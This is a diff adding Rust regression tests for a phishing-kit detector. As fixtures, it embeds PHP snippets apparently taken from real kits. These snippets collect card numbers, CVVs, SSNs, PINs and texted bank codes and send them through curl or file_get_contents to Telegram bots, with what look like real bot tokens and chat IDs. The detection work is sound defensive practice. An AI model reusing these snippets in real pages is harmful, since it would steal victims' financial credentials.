@@ -648,3 +648,56 @@ fn a_plain_page_dressed_as_a_provider_posting_its_password_away_is_found() {
     let host = page.replace("Gmail.com", "Example Hosting webmail");
     assert!(super::page_posts_password_away(host.as_bytes()).is_none());
 }
+
+#[test]
+fn a_telegram_bots_key_with_its_chat_is_a_kits_settings() {
+    // Regression: fresh115's `bot.php` and `config.php` hold where the kit's pages send their
+    // victims' data; its `function.php` hides a copy to the kit author's bot in an address.
+    let config = "<?php\n$botToken = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';\n$chatId = '-1003437798866';";
+    assert_eq!(whys_of(config), [(Why::ChatBotKey, Danger::Medium)]);
+    let defined = "<?php define('TELEGRAM_BOT_TOKEN', '7505568412:AAEwzAw9uUnxgXABFaUVq11-I0xBv36LmTw');\ndefine('TELEGRAM_CHAT_ID', '1794855545');";
+    assert_eq!(found(defined), [Why::ChatBotKey]);
+    let hidden = "<?php function crypto($b) { file_get_contents(\"https://api.telegram.org/bot793426151:AAEMd4I-Hynamf842tx7leOWhsOQoDBWGB4/sendMessage?chat_id=-1001322216342&text=\" . urlencode($b)); }";
+    assert!(found(hidden).contains(&Why::ChatBotKey), "{:?}", found(hidden));
+    // A key without a chat, a key cut short or run on, a longer number: none is a bot's.
+    assert!(found("<?php $botToken = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';").is_empty());
+    assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry5';").is_empty());
+    assert!(found("<?php $chat = 1; $k = '7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51Mxx';").is_empty());
+    assert!(found("<?php $chat = 1; $k = 'x7945542556:AAGAeGTHrE0i0YTCWqL4FxlwyWT_urry51M';").is_empty());
+}
+
+#[test]
+fn a_cards_code_or_a_social_security_number_kept_for_the_next_page_is_collected() {
+    // Regression: fresh115's USPS and Discover kits keep the card with its CVV, or the SSN, in
+    // the session (a file library of the kit's writes it too) and go on to their next step.
+    let card = "<?php session_start(); $cvv = $_POST['cvv'] ?? ''; $n = $_POST['cardNumber'] ?? '';\n\
+                $_SESSION['payment_info'] = ['cardNumber' => $n, 'cvv' => $cvv]; header('Location: wait.php'); exit;";
+    assert_eq!(whys_of(card), [(Why::CredentialCollector, Danger::High)]);
+    let ssn = "<?php session_start(); $s = $_POST['ssn_last4'] ?? ''; $_SESSION['discover_ssn4'] = $s; header('Location: step2.php');";
+    assert_eq!(found(ssn), [Why::CredentialCollector]);
+    let camel = "<?php $c = $_POST['cardCvv']; $_SESSION['c'] = $c;";
+    assert_eq!(found(camel), [Why::CredentialCollector]);
+    // A shop hands the code on to its payment service; a field whose name only holds the
+    // letters (`htaccessnew`) is no code.
+    let gateway = "<?php $cvv = $_POST['cvv']; $r = $gateway->charge(['cvv' => $cvv]); header('Location: thanks.php');";
+    assert!(found(gateway).is_empty(), "{:?}", found(gateway));
+    let editor = "<?php $h = $_POST['htaccessnew']; $_SESSION['saved'] = $h;";
+    assert!(found(editor).is_empty());
+}
+
+#[test]
+fn a_card_pin_or_a_texted_code_sent_to_a_chat_bot_is_collected() {
+    // Regression: fresh115's Correos kit sends the card's PIN and the bank's texted code, kept
+    // in the session, to Telegram through a function of its own.
+    let pin = "<?php $pin = $_POST['pin']; $_SESSION['pin'] = $pin;\n\
+               $message = 'pin: ' . $_SESSION['pin'] . ' IP: ' . $_SERVER['REMOTE_ADDR'];\n\
+               function send($m, $t, $c) { $url = 'https://api.telegram.org/bot' . $t . '/sendMessage?chat_id=' . $c . '&text=' . urlencode($m);\n\
+               $ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); return curl_exec($ch); }\n\
+               send($message, $bot_token, $rez_chat); header('Location: success.php');";
+    assert_eq!(found(pin), [Why::CredentialCollector]);
+    let sms = pin.replace("['pin']", "['sms']").replace("'pin: '", "'SMSCODE: '");
+    assert_eq!(found(&sms), [Why::CredentialCollector]);
+    // An order form's postal code (`pin_code`, India's) sent to the shop's bot is no secret.
+    let order = pin.replace("['pin']", "['pin_code']").replace("'pin: '", "'Pin code: '");
+    assert!(found(&order).is_empty(), "{:?}", found(&order));
+}
